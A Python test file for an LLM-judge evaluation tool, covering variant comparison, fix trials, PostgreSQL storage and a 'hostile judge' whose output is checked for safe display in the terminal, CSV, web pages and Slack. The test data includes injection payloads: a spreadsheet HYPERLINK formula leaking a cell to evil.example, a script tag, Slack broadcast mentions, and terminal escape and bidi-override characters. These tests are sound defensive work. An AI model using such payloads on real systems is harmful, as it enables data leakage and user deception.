"""A judge wherever checks are: comparing variants, trying fixes, on PostgreSQL; and what a hostile one says, shown."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from starlette.testclient import TestClient

from reroll.slack import shown as slack
from reroll.store import Store
from reroll.web.access import Access
from reroll.web.app import create_app
from reroll.web.home import Home, secret_of
from reroll.web.passes import Passes
from tests import postgres
from tests.background import in_background, reroll, write_project
from tests.fake_server import Act, answer
from tests.test_judge_calls import QUICK, fair, judging, numbered, rerun, world

server = postgres.server
NOW = 1_800_000_000.0
KIND, STRICT = "Be kind.", "Be strict."


def by_role(says: dict[str, str]) -> Act:
    """What it says depends on the system message; all its answers are different."""
    count = iter(range(10_000))

    async def act(request: web.Request) -> web.StreamResponse:
        role = (await request.json())["messages"][0]["content"]
        said = next(text for mark, text in says.items() if mark in role)
        return await answer(f"{said} {next(count)}")(request)

    return act


# -- other commands ----------------------------------------------------------------------------------------------------


def test_variants_are_compared_by_the_judges_word_and_its_calls_are_counted(tmp_path: Path, capsys: Any) -> None:
    with world(tmp_path / "p", by_role({STRICT: "yes", KIND: "no"}), judging(fair)) as (folder, product, judge):
        words = ("compare", "system.role=Be strict.", "--project", folder, "--yes", *QUICK, "--json")
        found = reroll(capsys, *words).json
        assert found["pairs"][0]["verdict"] == "better"
        assert found["cost"]["judge_calls"] == judge.calls == product.calls == found["cost"]["calls"]
        again = reroll(capsys, *words).json
        assert (again["cost"]["calls"], again["cost"]["judge_calls"]) == (0, 0)
        assert again["pairs"] == found["pairs"]
    assert any("held against no person's labels" in caveat for caveat in found["caveats"])


def test_a_fix_is_tried_by_the_judges_word_and_its_calls_are_counted(tmp_path: Path, capsys: Any) -> None:
    product = by_role({"GENERAL": "yes", KIND: "no"})
    with in_background(product) as (made, url), in_background(judging(fair)) as (judge, at):
        told = {"model": "openai:judge", "base_url": f"{at}/v1", "rubric": "It says yes."}
        check = {"name": "agrees", "judge": told}
        kinds = {"greet": "case", "usual": "control"} | {f"near-{n}": "neighbour" for n in range(8)}
        cases = [
            {
                "id": id,
                "set": kind,
                "input": {"request": f"Say yes, {id}"},
                "checks": [check],
            }
            | ({"of": "greet"} if kind == "neighbour" else {})
            for id, kind in kinds.items()
        ]
        folder = write_project(tmp_path / "p", url, cases=json.dumps({"cases": cases}))
        fix = {"fix": "general", "kind": "clause.add", "target": "system.more", "text": "GENERAL rule."}
        (folder / "fixes").mkdir()
        (folder / "fixes" / "general.yaml").write_text(json.dumps(fix))
        words = ("try", "general", "--case", "greet", "--project", folder, "--yes", *QUICK, "--json", "--budget", 120)
        ran = reroll(capsys, *words)
        assert ran.out, ran.err
        found = ran.json
        card = found["fixes"][0]
        assert card["case_gain"]["low"] > 0
        assert found["cost"]["judge_calls"] == judge.calls == made.calls


def test_a_judge_works_on_postgresql_and_asks_nothing_twice(
    server: postgres.Server, tmp_path: Path, capsys: Any
) -> None:
    place = ("--store", server.new_database())
    with world(tmp_path / "p", numbered(), judging(fair)) as (folder, product, judge):
        found = rerun(capsys, folder, "--budget", 8, *place).json
        assert found["cost"]["judge_calls"] == judge.calls == product.calls == 8
        again = rerun(capsys, folder, "--budget", 0, *place).json
        assert (again["cost"]["judge_calls"], again["rate"]) == (0, found["rate"])
    with Store.open(place[1]) as store:
        assert len(store.samples(source="judge", case_id="greet")) == 8


# -- a hostile judge ---------------------------------------------------------------------------------------------------

STEERS = "\x1b[31mred\x1b[0m\x07 \u202egnihton\u2069"
EVIL = f'=HYPERLINK("http://evil.example/"&A1) <script>alert(1)</script> <!channel> <@U1> {STEERS} ' + "long " * 900
FORBIDDEN = ("\x1b", "\x07", "\u202e", "\u2069")


@pytest.fixture
def hostile(tmp_path: Path, capsys: Any) -> Iterator[Path]:
    """A project whose judge failed all answers with a hostile reason."""
    verdict = json.dumps({"reason": EVIL, "verdict": "fail"})
    with world(tmp_path / "p", numbered(), answer(verdict)) as (folder, _, _):
        found = rerun(capsys, folder, "--budget", 6).json
        assert found["rate"]["failures"] == found["rate"]["n"] > 0
        yield folder


def harmless(text: str) -> bool:
    return not any(mark in text for mark in FORBIDDEN)


def test_a_hostile_reason_steers_no_terminal_and_has_an_end(hostile: Path, capsys: Any) -> None:
    for words in (("samples", "greet"), ("samples", "greet", "--group"), ("rerun", "greet", "--yes", "--quiet")):
        out = reroll(capsys, *words, "--project", hostile).out
        assert harmless(out), words
    listed = reroll(capsys, "samples", "--project", hostile, "--json").json["samples"]
    reason = listed[0]["shown"]["reason"]
    assert reason.startswith("the judge: =HYPERLINK")
    assert len(reason) < 600


def test_a_hostile_reason_is_no_formula_in_a_table(hostile: Path, capsys: Any) -> None:
    out = reroll(capsys, "export", "--csv", "-", "--project", hostile).out
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert rows
    for row in rows:
        assert "HYPERLINK" in row["reason"]
        assert row["reason"][0] not in "=+-@\t\r\n"
        assert harmless(row["reason"])


def test_a_hostile_reason_is_text_on_every_page(hostile: Path) -> None:
    with Store.open(hostile / ".reroll" / "store.sqlite") as store:
        home = Home(hostile, store, secret=secret_of(hostile))
        access = Access(Passes(home.secret), store, clock=lambda: NOW)
        client = TestClient(create_app(home, access), base_url="http://127.0.0.1:8585")
        client.get(f"/?token={access.passes.link(NOW)}")
        (sample, *_) = store.samples(source="draw")
        (finding,) = store.findings()
        pages = (
            "/samples",
            "/samples/groups?case=greet",
            f"/samples/{sample.id}",
            f"/findings/{finding.id}",
            "/cases/greet",
        )
        said = {page: client.get(page) for page in pages}
    for page, got in said.items():
        assert got.status_code == 200, page
        assert "<script>alert" not in got.text, page
        assert harmless(got.text), page
    assert any("&lt;script&gt;alert(1)" in got.text for got in said.values()), "it is shown somewhere"


def test_what_a_hostile_judge_says_instead_of_a_verdict_calls_nobody_on_slack(tmp_path: Path, capsys: Any) -> None:
    evil = f"<!channel> {STEERS} <@U1>"
    with world(tmp_path / "p", numbered(), answer(evil)) as (folder, _, _):
        ran = rerun(capsys, folder, "--budget", 8)
    assert "failed to run on all" in ran.complaint
    assert harmless(ran.err)
    told = json.dumps(slack.plain_message(ran.complaint), ensure_ascii=False)
    assert "channel" in told
    assert "<!" not in told
    assert "<@" not in told
    assert harmless(told)
